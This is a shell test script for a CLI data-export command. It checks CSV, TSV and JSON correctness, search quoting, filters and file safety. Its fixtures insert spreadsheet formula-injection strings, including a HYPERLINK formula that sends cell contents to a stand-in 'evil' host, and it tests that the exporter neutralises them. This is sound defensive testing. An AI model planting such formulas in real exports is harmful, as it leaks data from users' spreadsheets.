#!/bin/sh
# `oligo export` (issue 7): every view through a strict RFC 4180 parser,
# TSV and JSON, the injection cases, search quoting, the market view,
# --all DIR, and the file-safety cases (exists, symlink, permission, disk
# full).
. tests/lib.sh
"$OLIGO" init --quiet || exit 1

# Hostile text straight into the database, as a bad feed or import could
# leave it: formula starters, quotes, commas, newlines.
sqlite3 "$OLIGO_DB" <<'SQL' || exit 1
INSERT INTO entity(name, kind) VALUES
 ('=HYPERLINK("http://evil/?"&A1,"x")', 'company'), ('+1', 'company'),
 ('-2', 'company'), ('@SUM(A1)', 'company'),
 (char(9) || 'tabbed', 'company'), (char(13) || 'carriage', 'company'),
 ('comma, "quote"' || char(10) || 'newline', 'company');
INSERT INTO deal(date, investor_id, target_id, kind, amount_usd, source,
 as_of, note)
 SELECT '2031-01-01', id, id, 'equity_investment', -2500000, 'test src',
  '2031-01-02', '=1+1' FROM entity WHERE origin = 'dataset' AND
  (name LIKE '=HYP%' OR name IN ('+1', '-2', '@SUM(A1)') OR
   name LIKE char(9) || '%' OR name LIKE char(13) || '%' OR
   name LIKE 'comma%');
INSERT INTO source(name, kind, url) VALUES ('testfeed', 'rss', 'http://x/');
INSERT INTO item(source_id, guid, title, published, fetched) VALUES
 ((SELECT id FROM source WHERE name = 'testfeed'), 'a',
  'Microsoft files its 10-K AND more', '2025-02-01T10:00:00Z', '2025-02-01'),
 ((SELECT id FROM source WHERE name = 'testfeed'), 'b',
  'Cloud "quoted" news', '2025-02-02T10:00:00Z', '2025-02-02');
SQL

# strict_csv FILE NCOLS_FROM_HEADER: python3's csv module, strict, with
# CRLF records, every record as wide as the header
cat >"$T/strict.py" <<'PY'
import csv, io, sys
data = open(sys.argv[1], 'rb').read()
assert not data.startswith(b'\xef\xbb\xbf'), 'BOM'
text = data.decode('utf-8')
assert text.endswith('\r\n'), 'last record ends in CRLF'
rows = list(csv.reader(io.StringIO(text, newline=''), strict=True))
w = len(rows[0])
for i, r in enumerate(rows):
    assert len(r) == w, 'record %d has %d fields, header %d' % (i, len(r), w)
print(len(rows) - 1)
PY
for v in $("$OLIGO" export --list | cut -d' ' -f1); do
	"$OLIGO" export "$v" >"$T/$v.csv" 2>"$T/err" &&
		python3 "$T/strict.py" "$T/$v.csv" >"$T/n" 2>"$T/perr" &&
		pass "$v: strict RFC 4180 round trip ($(cat "$T/n") rows)" ||
		{ fail "$v: strict RFC 4180 round trip"; head -n 3 "$T/perr" "$T/err"; }
	"$OLIGO" export "$v" --format json >"$T/$v.json" &&
		python3 -m json.tool "$T/$v.json" >/dev/null &&
		python3 -c "import json,sys; a=json.load(open(sys.argv[1])); assert len(a)==int(sys.argv[2])" \
			"$T/$v.json" "$(cat "$T/n")" &&
		pass "$v: valid JSON, same rows" || fail "$v: valid JSON, same rows"
done

# the injection cases, read back through the strict parser
python3 - "$T/deals.csv" >"$T/inj" 2>&1 <<'PY'
import csv, io, sys
rows = list(csv.DictReader(io.StringIO(open(sys.argv[1], encoding='utf-8', newline='').read()), strict=True))
mine = [r for r in rows if r['date'] == '2031-01-01']
names = sorted(r['investor'] for r in mine)
want = sorted(["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+1", "'-2", "'@SUM(A1)",
               "'\ttabbed", "'\rcarriage", 'comma, "quote"\nnewline'])
assert names == want, names
for r in mine:
    assert r['amount_usd'] == '-2500000', r['amount_usd']   # a number stays a number
    assert r['note'] == "'=1+1", r['note']
print('ok')
PY
grep -qx ok "$T/inj" && pass "injection cases defused, numbers untouched" ||
	{ fail "injection cases defused, numbers untouched"; cat "$T/inj"; }
python3 -c "
import json,sys
a=[r for r in json.load(open(sys.argv[1])) if r['date']=='2031-01-01']
assert all(r['amount_usd']==-2500000 for r in a)
assert any(r['investor']=='=HYPERLINK(\"http://evil/?\"&A1,\"x\")' for r in a)
assert all(r['status'] is None for r in a)
" "$T/deals.json" && pass "JSON: numbers, null, text as stored" ||
	fail "JSON: numbers, null, text as stored"

# TSV: one line per record, as many fields as the header
"$OLIGO" export deals --format tsv >"$T/d.tsv"
awk -F'\t' 'NR==1{n=NF} NF!=n{bad=1} END{exit bad}' "$T/d.tsv" &&
	pass "TSV: every line as wide as the header" || fail "TSV: every line as wide as the header"
expect_exit 64 "--excel is CSV only" "$OLIGO" export deals --format json --excel
expect_exit 64 "unknown format" "$OLIGO" export deals --format xlsx

# search: the user's text is quoted for FTS5
"$OLIGO" export news --search 10-K >"$T/s1.csv"
grep -q "10-K AND more" "$T/s1.csv" && pass "search 10-K" || fail "search 10-K"
expect_exit 0 "search AND is text" "$OLIGO" export news --search AND
grep -q "10-K AND more" "$T/out" && pass "search AND finds it" || fail "search AND finds it"
expect_exit 0 "search a lone quote" "$OLIGO" export news --search '"'
expect_exit 0 "search NEAR(" "$OLIGO" export news --search 'NEAR( OR'
"$OLIGO" export news --search '"quoted"' >"$T/s2.csv"
[ "$(wc -l <"$T/s2.csv")" -eq 2 ] && pass "search with quotes" || fail "search with quotes"
"$OLIGO" export news --search 'clou*' >"$T/s3.csv"
grep -q "Cloud" "$T/s3.csv" && pass "prefix search" || fail "prefix search"

# the market view: a positional argument, checked
"$OLIGO" export market cloud_infrastructure >"$T/m.csv"
[ "$(tail -n +2 "$T/m.csv" | cut -d, -f1 | sort -u | tr -d '\r')" = cloud_infrastructure ] &&
	pass "market M: one market" || fail "market M: one market"
head -n 1 "$T/m.csv" | grep -q "share_pct.*hhi_points" &&
	pass "market M: shares and indices" || fail "market M: shares and indices"
expect_exit 64 "market: unknown market" "$OLIGO" export market no_such
expect_grep "no_such" "$T/err" "unknown market is named"
expect_exit 64 "market: two markets" "$OLIGO" export market dram --market hbm
expect_exit 64 "extra argument refused" "$OLIGO" export deals extra
"$OLIGO" export metrics >"$T/metrics.csv"
[ "$(tail -n +2 "$T/metrics.csv" | wc -l)" -eq \
	"$(sqlite3 "$OLIGO_DB" 'SELECT count(*) FROM metric')" ] &&
	pass "metrics: the full index history" || fail "metrics: the full index history"

# filters
"$OLIGO" export deals --since 2031-01-01 --until 2031-01-01 >"$T/f.csv"
[ "$(tail -n +2 "$T/f.csv" | grep -c '^2031-01-01,')" -eq 7 ] &&
	pass "date filters" || fail "date filters"
"$OLIGO" export deals --sort -amount_usd >"$T/sorted.csv"
python3 -c "
import csv,sys
r=[x for x in csv.DictReader(open(sys.argv[1],newline='')) if x['amount_usd']]
v=[int(x['amount_usd']) for x in r]; assert v==sorted(v,reverse=True)
" "$T/sorted.csv" && pass "--sort -COL" || fail "--sort -COL"
expect_exit 64 "sort by a missing column" "$OLIGO" export deals --sort nope

# --kind: exactly the deals of that kind, as the dashboard's K filter
"$OLIGO" export deals --kind cloud_commitment >"$T/kind.csv"
want=$(sqlite3 "$OLIGO_DB" "SELECT count(*) FROM deal WHERE kind = 'cloud_commitment'")
python3 -c "
import csv,sys
r=list(csv.DictReader(open(sys.argv[1],newline='')))
assert len(r)==int(sys.argv[2]) and len(r)>0, (len(r), sys.argv[2])
assert all(x['kind']=='cloud_commitment' for x in r)
" "$T/kind.csv" "$want" && pass "--kind: the $want deals of that kind, no other" ||
	fail "--kind: the deals of that kind, no other"
"$OLIGO" export deals --kind no_such_kind | tail -n +2 >"$T/kind0.csv"
[ ! -s "$T/kind0.csv" ] && pass "--kind unknown: no rows" || fail "--kind unknown: no rows"
expect_exit 64 "--kind on a view without kinds" "$OLIGO" export cases --kind x
expect_exit 64 "--all takes no --kind" "$OLIGO" export --all "$T/s3" --kind x
"$OLIGO" export deals --kind stake --sql | grep -q ':kind' &&
	pass "--sql names :kind" || fail "--sql names :kind"
"$OLIGO" export news --sql >"$T/q.sql" && grep -q "item_fts" "$T/q.sql" &&
	pass "--sql prints the query" || fail "--sql prints the query"

# --all DIR: every view and a README naming sources and dates
expect_exit 0 "--all DIR" "$OLIGO" export --all "$T/snap"
for v in landscape markets compute ownership deals cases news filings sources metrics; do
	[ -s "$T/snap/$v.csv" ] || fail "--all wrote $v.csv"
done
[ -s "$T/snap/market-cloud_infrastructure.csv" ] && pass "--all: every view, market-M per market" ||
	fail "--all: market-cloud_infrastructure.csv"
cmp -s "$T/snap/deals.csv" "$T/deals.csv" && pass "--all deals = export deals" ||
	fail "--all deals = export deals"
expect_grep "deals.csv" "$T/snap/README.txt" "README lists deals.csv"
expect_grep "test src (7; 2031-01-02 .. 2031-01-02)" "$T/snap/README.txt" "README: source, rows, as-of range"
expect_grep "testfeed (2; 2025-02-01T10:00:00Z .. 2025-02-02T10:00:00Z)" "$T/snap/README.txt" \
	"README: news sources and dates"
expect_exit 73 "--all refuses a non-empty DIR" "$OLIGO" export --all "$T/snap"
expect_grep "not empty" "$T/err" "refusal says why"
expect_exit 0 "--all --force" "$OLIGO" export --all "$T/snap" --force
expect_exit 64 "--all takes no filters" "$OLIGO" export --all "$T/s2" --alliance x
expect_exit 0 "--all --format json" "$OLIGO" export --all "$T/snapj" --format json
python3 -m json.tool "$T/snapj/news.json" >/dev/null && pass "--all json files valid" ||
	fail "--all json files valid"
ls -A "$T/snap" | grep -q '\.tmp\.' && fail "--all leaves no temp files" ||
	pass "--all leaves no temp files"

# file safety
expect_exit 0 "-o FILE" "$OLIGO" export deals -o "$T/o.csv"
expect_grep "wrote [0-9]* rows" "$T/err" "reports rows written"
expect_exit 73 "existing file needs --force" "$OLIGO" export deals -o "$T/o.csv"
expect_exit 0 "--force replaces" "$OLIGO" export deals -o "$T/o.csv" --force
ln -s "$T/victim" "$T/sym.csv"
expect_exit 73 "symlink refused" "$OLIGO" export deals -o "$T/sym.csv" --force
[ ! -e "$T/victim" ] && pass "symlink target untouched" || fail "symlink target untouched"
expect_exit 73 "missing folder" "$OLIGO" export deals -o "$T/no/such/dir.csv"
expect_grep "cannot create '$T/no/such/dir.csv'" "$T/err" "message names the file"
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
	# the database in a folder nobody may write to; the target not
	mkdir -p "$T/ro" "$T/rodb" && chmod 755 "$T" "$T/ro" && chmod 777 "$T/rodb"
	sqlite3 "$OLIGO_DB" "VACUUM INTO '$T/rodb/ro.db'" && chmod 666 "$T/rodb/ro.db"
	expect_exit 73 "permission denied" setpriv --reuid=65534 --regid=65534 --clear-groups \
		"$OLIGO" --db "$T/rodb/ro.db" export deals -o "$T/ro/x.csv"
	chmod 700 "$T"
else
	mkdir -p "$T/ro" && chmod 555 "$T/ro"
	expect_exit 73 "permission denied" "$OLIGO" export deals -o "$T/ro/x.csv"
fi
expect_grep "Permission denied" "$T/err" "permission message"
[ -z "$(ls -A "$T/ro")" ] && pass "nothing left after permission error" ||
	fail "nothing left after permission error"
# disk full: a file size limit above SQLite's 32 KiB shared-memory file
# but below the export; SIGXFSZ ignored so write() fails with EFBIG
sqlite3 "$OLIGO_DB" "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1
 FROM n WHERE i < 4000) INSERT INTO item(source_id, guid, title, link,
 published, fetched) SELECT (SELECT id FROM source WHERE name = 'testfeed'),
 'bulk' || i, 'bulk item number ' || i || ' about cloud markets and chips',
 'http://x/' || i, '2024-01-01T00:00:00Z', '2024-01-01' FROM n"
mkdir "$T/full"
# an empty WAL, so that opening the database writes nothing big
sqlite3 "$OLIGO_DB" 'PRAGMA wal_checkpoint(TRUNCATE)' >/dev/null
(trap '' XFSZ; ulimit -f 128; exec "$OLIGO" export news -o "$T/full/d.csv") 2>"$T/err" >/dev/null
rc=$?
[ "$rc" -eq 74 ] && pass "file too large: exit 74" || fail "file too large: exit 74 (got $rc)"
expect_grep "cannot write '$T/full/d.csv'" "$T/err" "disk-full message names the file"
[ -z "$(ls -A "$T/full")" ] && pass "no partial file, no temp file" ||
	{ fail "no partial file, no temp file"; ls -A "$T/full"; }
(trap '' XFSZ; ulimit -f 128; exec "$OLIGO" export --all "$T/full/snap") 2>"$T/err" >/dev/null
rc=$?
[ $rc -eq 74 ] && pass "--all on a full disk: exit 74" || { fail "--all on a full disk: exit 74 (got $rc)"; cat "$T/err"; }
ls -A "$T/full/snap" | grep -q '\.tmp\.' && fail "--all full: no temp files" ||
	pass "--all full: no temp files"
finish
